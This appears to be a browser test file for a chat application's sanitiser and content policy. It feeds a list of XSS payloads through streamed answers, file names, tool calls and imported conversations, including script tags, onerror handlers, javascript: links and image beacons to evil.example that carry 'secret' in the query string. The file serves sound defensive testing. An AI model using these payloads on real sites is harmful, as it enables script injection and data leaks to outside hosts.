// T-24.2 and T-24.3: whatever a model, a file or a server says, nothing runs, nothing is loaded from elsewhere.
import assert from 'node:assert/strict';
import { world } from './support/world.mjs';
import { expectCount, expectText } from './support/expect.mjs';
import { delta, ending, says } from './support/fake_server.mjs';
import { answers, ask, button, settled, say } from './support/steps.mjs';

const { scene } = world();

const attacks = [
  '<script>window.hit=1</script>',
  '<img src=x onerror="window.hit=2">',
  '<img src="https://evil.example/a.png?q=secret">',
  '![x](https://evil.example/b.png?q=secret)',
  '![x](//evil.example/c.png)',
  '![x](https://evil.example/d.png "t" onerror=alert(1))',
  '[click](javascript:window.hit=3)',
  '[click](JaVaScRiPt&colon;window.hit=4)',
  '[click](data:text/html;base64,PHNjcmlwdD5oaXQ9NTwvc2NyaXB0Pg==)',
  '<a href="vbscript:x">v</a><a href=" &#1;javascript:window.hit=6">j</a>',
  '<svg onload="window.hit=7"><script>window.hit=8</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=9&gt;">',
  '<form id=x action="https://evil.example"><input name=getElementById><button>go</button></form>',
  '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">',
  '<style>@import url(https://evil.example/s.css); body{display:none}</style><link rel=stylesheet href="https://evil.example/s.css">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/e.png)" class="dialog failure" id="app">over</div>',
  '<details open ontoggle="window.hit=10"><summary>s</summary></details>',
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '```html\n<img src=x onerror=window.hit=11>\n```',
  '```"><img src=x onerror=window.hit=12>\ncode\n```',
  '`<img src=x onerror=window.hit=13>`',
  '$\\href{javascript:window.hit=14}{x}$ $\\includegraphics{https://evil.example/f.png}$ $\\style{background:url(https://evil.example/g.png)}{x}$',
  '$<img src=x onerror=window.hit=15>$ $$\\text{<img src=x onerror=window.hit=16>}$$ $\\class{dialog}{x}$ $\\def\\a{\\a\\a}\\a$',
  '| a |\n|---|\n| <img src=x onerror=window.hit=17> |',
  '<details><summary><b onclick="window.hit=18">x</b></summary></details> <img srcset="https://evil.example/h.png 1x">',
  '[a]: https://evil.example/ "x\\" onmouseover=\\"window.hit=19"\n\n[a] ![a]',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=20>"></noscript>',
  '<svg><a xlink:href="javascript:window.hit=21"><text>x</text></a></svg><svg><use href="data:image/svg+xml,x"/></svg>',
  '<input type=image src="https://evil.example/i.png"><input type=checkbox checked autofocus onfocus=window.hit=22>',
];

const ALLOWED = new Set(
  'A ABBR B BLOCKQUOTE BR BUTTON CAPTION CODE DD DEL DETAILS DIV DL DT EM H3 H4 H5 H6 HR I IMG INPUT INS KBD LI MARK OL P PRE Q S SAMP SMALL SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TFOOT TH THEAD TR U UL VAR'.split(' '),
);

// Everything below the answers, checked element by element.
async function checkProse(page, least = 50) {
  const found = await page.locator('.prose').evaluateAll((roots) =>
    roots.flatMap((root) =>
      [...root.querySelectorAll('*')].map((node) => ({
        name: node.nodeName,
        isMath: node.namespaceURI.endsWith('MathML'),
        attributes: [...node.attributes].map((attribute) => [attribute.name, attribute.value]),
        isOurs: node.nodeName !== 'BUTTON' || node.className === 'copy',
      })),
    ),
  );
  assert.ok(found.length > least, `only ${found.length} elements`);
  for (const { name, isMath, attributes, isOurs } of found) {
    assert.ok(isMath || (ALLOWED.has(name) && isOurs), `<${name}>`);
    for (const [key, value] of attributes) {
      assert.ok(!/^on|^srcset$|^id$|^name$|^action$|^xlink/.test(key), `${name}.${key}`);
      if (key === 'style') assert.ok(!/url|position/.test(value), value);
      if (key === 'href') assert.match(value, /^(https?:|mailto:)/);
      if (key === 'src') assert.match(value, /^data:image\//);
      if (key === 'class') assert.ok(!/dialog|failure/.test(value), value);
    }
  }
}

// The sanitiser reads a text as HTML in a document that shows nothing; the browser reports handlers and styles there as it
// refuses them. Whether they got any further is what checkProse looks at.
async function unhit(page) {
  assert.equal(await page.evaluate(() => window.hit), undefined);
  page.complaints = page.complaints.filter((text) => !/^(Executing inline event handler|Applying inline style|Setting the document's base URI)/.test(text));
}

scene('T-24.2: no text of an answer does anything, streamed or whole', async (page, fake) => {
  fake.answer = (body, stream) => {
    const text = attacks.join('\n\n');
    const pieces = text.match(/[\s\S]{1,7}/g);
    return stream.play([delta({ reasoning_content: attacks[1] }), ...pieces.map((piece) => delta({ content: piece })), ending()]);
  };
  await ask(page, attacks[0]);
  await page.waitForTimeout(300);
  await checkProse(page);
  await page.reload();
  await settled(page, 1);
  await page.locator('.prose pre').first().waitFor();
  await page.waitForTimeout(300);
  await checkProse(page);
  await unhit(page);
});

for (let part = 0; part < 3; part++)
  scene(`T-24.2: each attack alone, part ${part + 1}`, async (page, fake) => {
    const own = attacks.filter((_, i) => i % 3 === part);
    fake.answer = (body, stream) => stream.play(says(body.messages.at(-1).content));
    for (const attack of own) await ask(page, attack);
    for (const link of await page.locator('.prose a[href]').all()) assert.match(await link.getAttribute('rel'), /noopener noreferrer/);
    await page.waitForTimeout(100);
    await checkProse(page, 3);
    await unhit(page);
  });

scene('T-24.2: names of models, tools, files and titles are text', async (page, fake) => {
  const evil = '<img src=x onerror=window.hit=1>';
  fake.models = [{ id: evil, context_length: 10 }];
  await page.reload();
  fake.answer = (body, stream, index) => {
    if (index === 1) return stream.error(400, evil);
    return stream.play([
      { ...delta({ content: 'x' }), model: evil },
      delta({ tool_calls: [{ index: 0, id: evil, function: { name: evil, arguments: `{"a":"${evil}"}` } }] }),
      ending('tool_calls'),
    ]);
  };
  await page.locator('#files').setInputFiles({ name: evil, mimeType: 'text/plain', buffer: Buffer.from(evil) });
  await ask(page, evil);
  await page.locator('.call textarea').fill(evil);
  await page.locator('.call button').click();
  await expectText(page.locator('.failure'), evil);
  const bundle = {
    format: 'godwit-conversations',
    conversations: [
      {
        title: evil,
        leaf: 'm',
        messages: [
          { id: 'm', role: 'user', content: evil, attachments: [{ kind: 'image', name: evil, type: 'image/png" onerror="window.hit=2', data: '"><script>window.hit=3</script>' }] },
        ],
      },
    ],
  };
  await page.locator('.side-button').click();
  await page.locator('#import').setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(bundle)) });
  await expectText(page.locator('.title'), evil);
  await expectCount(page.locator('img[onerror]'), 0);
  await unhit(page);
});

scene('T-24.3: an image of another host is a link that a click opens, and nothing more', async (page, fake) => {
  fake.answer = (body, stream) => stream.play(says('![a chart](https://evil.example/p.png?x=1) and ![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAX+XDSwAAAABJRU5ErkJggg==)'));
  await ask(page, 'x');
  const link = page.getByRole('link', { name: 'Image from evil.example: a chart' });
  assert.equal(await link.getAttribute('target'), '_blank');
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow');
  await expectCount(page.locator('.prose img'), 1);
});

scene('T-24.3: the policy of the page stops what would get past the sanitiser', async (page) => {
  const outcome = await page.evaluate(async () => {
    const results = {};
    const image = new Image();
    results.image = await new Promise((done) => {
      image.onload = () => done('loaded');
      image.onerror = () => done('blocked');
      image.src = 'https://evil.example/x.png';
    });
    results.fetch = await fetch('https://evil.example/').then(() => 'sent', () => 'blocked');
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>x</b>');
      results.html = 'set';
    } catch {
      results.html = 'blocked';
    }
    const script = document.createElement('script');
    try {
      script.text = 'window.hit = 1';
      document.body.append(script);
    } catch {
      // refused as it should be
    }
    results.script = window.hit === undefined ? 'blocked' : 'run';
    return results;
  });
  assert.deepEqual(outcome, { image: 'blocked', fetch: 'blocked', html: 'blocked', script: 'blocked' });
  page.complaints.length = 0; // these were wanted
  page.outside.length = 0; // asked for, and stopped before they left
});

scene('code is copied as it was written', async (page, fake) => {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  const code = 'int main() {\n  return a < b && "<b>";\n}\n';
  fake.answer = (body, stream) => stream.play(says(`Here:\n\n\`\`\`cpp\n${code}\`\`\`\n\nDone.`));
  await say(page, 'x');
  await settled(page, 1);
  await page.locator('.hljs-keyword').first().waitFor();
  await button(page, 'Copy this code').click();
  await expectText(page.locator('.copy'), 'Copied');
  assert.equal((await page.evaluate(() => navigator.clipboard.readText())).trimEnd(), code.trimEnd());
  await answers(page).getByRole('button', { name: 'Copy', exact: true }).click();
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^Here:\n\n```cpp\n/);
});
